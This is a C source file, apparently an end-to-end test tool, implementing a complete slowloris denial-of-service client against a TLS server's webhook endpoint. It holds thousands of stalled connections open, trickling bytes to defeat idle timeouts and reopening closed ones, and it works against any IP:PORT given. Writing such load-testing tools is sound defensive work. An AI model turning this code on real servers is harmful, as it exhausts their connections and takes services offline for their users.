/* tests/e2e/tools/slowloris.c - pgop-slowloris: one client holding many stalled
 * connections to a TLS server, reopening each one as soon as the server closes it
 * (tests/e2e/test_slowloris.sh).
 *
 *   pgop-slowloris --target IP:PORT [--connections 2000] [--duration-s 120]
 *                  [--mode header|handshake] [--trickle-ms 1000] [--reopen-ms 0]
 *                  [--report-s 10]
 *
 * mode header (default): TCP connect, full TLS handshake, then half a request header
 * ("POST /validate-... HTTP/1.1\r\nHost: x\r\nX-Slow: "); handshake: TCP connect, then
 * the first bytes of a TLS record and nothing more. Every --trickle-ms each stalled
 * connection sends one more byte (one more header byte, or one byte of the record),
 * which resets any idle timeout. A slot whose connection the server closes (or
 * refuses) is reopened after --reopen-ms. Runs for --duration-s (or until
 * SIGTERM/SIGINT), then prints one line of totals:
 *   slowloris: attempts=N connected=N handshakes=N closed_by_server=N held_max=N held_end=N
 * (held = TCP-connected and not yet closed, as this client sees it), plus one such line
 * every --report-s. Only the target's address is contacted. Needs RLIMIT_NOFILE above
 * --connections (the soft limit is raised to the hard one). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum state { IDLE, CONNECTING, HANDSHAKING, STALLED };

struct slot {
	int fd;
	enum state st;
	gnutls_session_t tls;
	int64_t next_ms; /* IDLE: reopen time; STALLED: next trickle byte */
	unsigned sent;   /* trickled bytes */
};

static volatile sig_atomic_t stop;
static void on_signal(int sig)
{
	stop = 1;
}

static struct {
	struct sockaddr_in target;
	unsigned n;
	int64_t duration_ms, trickle_ms, reopen_ms, report_ms;
	bool handshake_only;
} opt = { .n = 2000, .duration_ms = 120000, .trickle_ms = 1000, .report_ms = 10000 };

static struct {
	uint64_t attempts, connected, handshakes, closed;
	unsigned held, held_max;
} st;

static struct slot *slots;
static int ep;
static gnutls_certificate_credentials_t cred;

static const char header[] =
	"POST /validate-postgresql-cnpg-io-v1-cluster HTTP/1.1\r\nHost: pgop\r\n"
	"Content-Type: application/json\r\nX-Slow: ";
static const unsigned char record[] = { 0x16, 0x03, 0x01, 0x02, 0x00 };

static int64_t now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void watch(struct slot *s, uint32_t events, int op)
{
	struct epoll_event ev = { .events = events, .data.ptr = s };
	epoll_ctl(ep, op, s->fd, &ev);
}

static void slot_close(struct slot *s, bool by_server)
{
	if (s->tls) {
		gnutls_deinit(s->tls);
		s->tls = NULL;
	}
	if (s->fd >= 0) {
		epoll_ctl(ep, EPOLL_CTL_DEL, s->fd, NULL);
		close(s->fd);
	}
	if (s->st == HANDSHAKING || s->st == STALLED)
		st.held--;
	if (by_server)
		st.closed++;
	s->fd = -1;
	s->st = IDLE;
	s->next_ms = now_ms() + opt.reopen_ms;
}

static void slot_open(struct slot *s)
{
	s->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (s->fd < 0) {
		s->next_ms = now_ms() + 100;
		return;
	}
	st.attempts++;
	s->sent = 0;
	int r = connect(s->fd, (struct sockaddr *)&opt.target, sizeof(opt.target));
	if (r < 0 && errno != EINPROGRESS) {
		close(s->fd);
		s->fd = -1;
		s->next_ms = now_ms() + opt.reopen_ms;
		st.closed++;
		return;
	}
	s->st = CONNECTING;
	watch(s, EPOLLOUT, EPOLL_CTL_ADD);
}

/* Connected (and handshaken): send the opening bytes, then only trickle. */
static void slot_stall(struct slot *s)
{
	s->st = STALLED;
	s->next_ms = now_ms() + opt.trickle_ms;
	ssize_t n = s->tls ? gnutls_record_send(s->tls, header, sizeof(header) - 1)
			   : send(s->fd, record, sizeof(record), MSG_NOSIGNAL);
	if (n < 0) {
		slot_close(s, true);
		return;
	}
	watch(s, EPOLLIN | EPOLLRDHUP, EPOLL_CTL_MOD); /* only to see the close */
}

static void slot_handshake(struct slot *s)
{
	int r = gnutls_handshake(s->tls);
	if (r == 0) {
		st.handshakes++;
		slot_stall(s);
	} else if (gnutls_error_is_fatal(r)) {
		slot_close(s, true);
	} else {
		watch(s, gnutls_record_get_direction(s->tls) ? EPOLLOUT : EPOLLIN, EPOLL_CTL_MOD);
	}
}

static void slot_event(struct slot *s, uint32_t ev)
{
	if (s->st == CONNECTING) {
		int e = 0;
		socklen_t l = sizeof(e);
		getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &e, &l);
		if (e || (ev & (EPOLLERR | EPOLLHUP))) {
			slot_close(s, true);
			return;
		}
		st.connected++;
		if (++st.held > st.held_max)
			st.held_max = st.held;
		if (opt.handshake_only) {
			slot_stall(s);
			return;
		}
		s->st = HANDSHAKING;
		gnutls_init(&s->tls, GNUTLS_CLIENT | GNUTLS_NONBLOCK);
		gnutls_set_default_priority(s->tls);
		gnutls_credentials_set(s->tls, GNUTLS_CRD_CERTIFICATE, cred);
		gnutls_transport_set_int(s->tls, s->fd);
		slot_handshake(s);
		return;
	}
	if (s->st == HANDSHAKING) {
		slot_handshake(s);
		return;
	}
	/* STALLED: the server's close, or an answer (an error), ends it; TLS records
	 * that carry no data (session tickets) do not. */
	char buf[512];
	if (ev & (EPOLLHUP | EPOLLERR | EPOLLRDHUP)) {
		slot_close(s, true);
		return;
	}
	ssize_t n;
	if (s->tls) {
		n = gnutls_record_recv(s->tls, buf, sizeof(buf));
		if (n == GNUTLS_E_AGAIN || n == GNUTLS_E_INTERRUPTED)
			return;
	} else {
		n = recv(s->fd, buf, sizeof(buf), MSG_DONTWAIT);
		if (n < 0 && (errno == EAGAIN || errno == EINTR))
			return;
	}
	slot_close(s, true);
}

static void trickle(struct slot *s, int64_t now)
{
	char c = (char)('a' + s->sent % 26);
	ssize_t n = s->tls ? gnutls_record_send(s->tls, &c, 1)
			   : send(s->fd, "\x01", 1, MSG_NOSIGNAL);
	if (n < 0 && !(s->tls && n == GNUTLS_E_AGAIN) && !(!s->tls && errno == EAGAIN)) {
		slot_close(s, true);
		return;
	}
	s->sent++;
	s->next_ms = now + opt.trickle_ms;
}

static void report(const char *when)
{
	printf("slowloris%s: attempts=%llu connected=%llu handshakes=%llu closed_by_server=%llu "
	       "held_max=%u held_end=%u\n",
	       when, (unsigned long long)st.attempts, (unsigned long long)st.connected,
	       (unsigned long long)st.handshakes, (unsigned long long)st.closed, st.held_max,
	       st.held);
	fflush(stdout);
}

static int parse_target(const char *s)
{
	char host[64];
	const char *colon = strrchr(s, ':');
	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return -1;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = '\0';
	opt.target.sin_family = AF_INET;
	opt.target.sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, host, &opt.target.sin_addr) == 1 ? 0 : -1;
}

static int usage(void)
{
	fputs("usage: pgop-slowloris --target IP:PORT [--connections N] [--duration-s S]\n"
	      "       [--mode header|handshake] [--trickle-ms MS] [--reopen-ms MS] [--report-s S]\n",
	      stderr);
	return 2;
}

int main(int argc, char **argv)
{
	bool have_target = false;
	for (int i = 1; i + 1 < argc; i += 2) {
		const char *k = argv[i], *v = argv[i + 1];
		if (strcmp(k, "--target") == 0 && parse_target(v) == 0)
			have_target = true;
		else if (strcmp(k, "--connections") == 0)
			opt.n = (unsigned)atoi(v);
		else if (strcmp(k, "--duration-s") == 0)
			opt.duration_ms = atoll(v) * 1000;
		else if (strcmp(k, "--trickle-ms") == 0)
			opt.trickle_ms = atoll(v);
		else if (strcmp(k, "--reopen-ms") == 0)
			opt.reopen_ms = atoll(v);
		else if (strcmp(k, "--report-s") == 0)
			opt.report_ms = atoll(v) * 1000;
		else if (strcmp(k, "--mode") == 0 && (!strcmp(v, "header") || !strcmp(v, "handshake")))
			opt.handshake_only = strcmp(v, "handshake") == 0;
		else
			return usage();
	}
	if (!have_target || opt.n == 0 || opt.trickle_ms <= 0 || opt.report_ms <= 0 ||
	    (argc - 1) % 2)
		return usage();

	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	if (rl.rlim_cur < opt.n + 32) {
		fprintf(stderr, "pgop-slowloris: RLIMIT_NOFILE %llu is too low for %u connections\n",
			(unsigned long long)rl.rlim_cur, opt.n);
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	gnutls_global_init();
	gnutls_certificate_allocate_credentials(&cred); /* nothing verified: an attacker */
	ep = epoll_create1(EPOLL_CLOEXEC);
	slots = calloc(opt.n, sizeof(*slots));
	if (ep < 0 || !slots)
		return 1;
	for (unsigned i = 0; i < opt.n; i++) {
		slots[i].fd = -1;
		slot_open(&slots[i]);
	}
	int64_t t0 = now_ms(), next_report = t0 + opt.report_ms;
	struct epoll_event evs[256];
	while (!stop && now_ms() - t0 < opt.duration_ms) {
		int n = epoll_wait(ep, evs, 256, 50);
		for (int i = 0; i < n; i++)
			slot_event(evs[i].data.ptr, evs[i].events);
		int64_t now = now_ms();
		for (unsigned i = 0; i < opt.n; i++) {
			struct slot *s = &slots[i];
			if (s->st == IDLE && now >= s->next_ms)
				slot_open(s);
			else if (s->st == STALLED && now >= s->next_ms)
				trickle(s, now);
		}
		if (now >= next_report) {
			report(" (running)");
			next_report = now + opt.report_ms;
		}
	}
	report("");
	/* No per-slot teardown: the kernel closes the sockets, and the exit status then says
	 * only whether the attack ran (a CI run saw this pod end in Error, cause unknown). */
	fflush(NULL);
	_exit(0);
}
